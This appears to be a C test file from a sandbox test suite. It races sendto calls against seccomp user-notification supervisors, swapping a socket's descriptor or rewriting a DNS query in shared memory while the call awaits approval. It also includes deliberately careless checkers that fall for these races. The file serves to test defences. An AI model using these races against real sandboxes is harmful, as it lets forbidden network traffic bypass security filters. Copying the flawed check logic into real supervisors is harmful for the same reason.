// Sockets and messages that another thread changes while the call waits for its verdict (B23), and a supervisor that falls for it.

#include "victim.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <seccomp.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static atomic_int over;
// The number that is sent through, and what it is in turn: a socket of AF_UNIX, and one of the internet.
static int number = 100, sockets[2];

static void *swap(void *unused) {
    for (unsigned i = 0; !atomic_load(&over); i++) {
        dup2(sockets[i & 1], number);
        for (volatile int pause = 0; pause < 200; pause++) {}
    }
    return unused;
}

static struct sockaddr_in place_of(const char *text) {
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(strchr(text, ':') + 1))};
    char host[32];
    snprintf(host, sizeof host, "%.*s", (int)(strchr(text, ':') - text), text);
    inet_pton(AF_INET, host, &place.sin_addr);
    return place;
}

// Sends to the place through whatever the number is by then; how often a packet went out.
static int swapped_sends(char **a) {
    struct sockaddr_in place = place_of(a[1]);
    sockets[0] = socket(AF_UNIX, SOCK_DGRAM, 0), sockets[1] = atoi(a[0]);
    dup2(sockets[0], number);
    pthread_t thread;
    if (pthread_create(&thread, NULL, swap, NULL) != 0) return -1;
    int sent = 0, refused = 0, other = 0;
    for (int i = 0, rounds = atoi(a[2]); i < rounds; i++) {
        ssize_t result = sendto(number, "packet", 6, MSG_DONTWAIT, (struct sockaddr *)&place, sizeof place);
        if (result == 6) sent++;
        else if (errno == EACCES) refused++;
        else other++;
    }
    atomic_store(&over, 1);
    pthread_join(thread, NULL);
    printf("sent %d refused %d other %d\n", sent, refused, other);
    return 0;
}

// FD PLACE ROUNDS: FD is a UDP socket that the program was started with.
int do_race_socket(char **a) { return swapped_sends(a) < 0 ? failed() : 0; }

// Two questions of one length; what is sent is one or the other, or half of each.
static unsigned char *shared, questions[2][64];
static size_t length;

static void *rewrite(void *unused) {
    for (unsigned i = 0; !atomic_load(&over); i++) {
        memcpy(shared, questions[i & 1], length);
        for (volatile int pause = 0; pause < 200; pause++) {}
    }
    return unused;
}

static size_t question(unsigned char *out, const char *name) {
    memcpy(out, "\1\2\1\0\0\1\0\0\0\0\0\0", 12);
    size_t at = 12;
    for (; *name; name += *name == '.') {
        size_t part = strcspn(name, ".");
        out[at++] = (unsigned char)part;
        memcpy(out + at, name, part);
        at += part, name += part;
    }
    memcpy(out + at, "\0\0\1\0\1", 5);
    return at + 5;
}

// Asks what stands in the memory by then; how often that was sent.
static int rewritten_queries(char **a) {
    struct sockaddr_in place = place_of(a[0]);
    length = question(questions[0], a[1]);
    if (question(questions[1], a[2]) != length) return -1;
    shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    memcpy(shared, questions[0], length);
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    pthread_t thread;
    if (fd < 0 || pthread_create(&thread, NULL, rewrite, NULL) != 0) return -1;
    int sent = 0, refused = 0;
    for (int i = 0, rounds = atoi(a[3]); i < rounds; i++) {
        ssize_t result = sendto(fd, shared, length, 0, (struct sockaddr *)&place, sizeof place);
        if (result < 0) refused++;
        else sent++;
    }
    atomic_store(&over, 1);
    pthread_join(thread, NULL);
    printf("sent %d refused %d\n", sent, refused);
    return 0;
}

// PLACE ALLOWED FORBIDDEN ROUNDS
int do_race_query(char **a) { return rewritten_queries(a) < 0 ? failed() : 0; }

// What is asked by the message that the caller sends.
static int is_forbidden_query(struct seccomp_notif *request, int pidfd, char **a) {
    (void)pidfd;
    unsigned char text[64] = {0}, named[64];
    size_t count = question(named, a[2]);
    struct iovec ours = {text, count}, theirs = {(void *)(uintptr_t)request->data.args[1], count};
    process_vm_readv((pid_t)request->pid, &ours, 1, &theirs, 1, 0);
    return memcmp(text, named, count) == 0;
}

// What the caller has open.
static int is_forbidden_socket(struct seccomp_notif *request, int pidfd, char **a) {
    (void)a;
    int domain = 0, copy = (int)syscall(SYS_pidfd_getfd, pidfd, (int)request->data.args[0], 0);
    socklen_t size = sizeof domain;
    getsockopt(copy, SOL_SOCKET, SO_DOMAIN, &domain, &size);
    close(copy);
    return domain == AF_INET;
}

int do_race_socket_control(char **a) {
    return careless(a, SCMP_SYS(sendto), is_forbidden_socket, swapped_sends);
}

int do_race_query_control(char **a) {
    return careless(a, SCMP_SYS(sendto), is_forbidden_query, rewritten_queries);
}
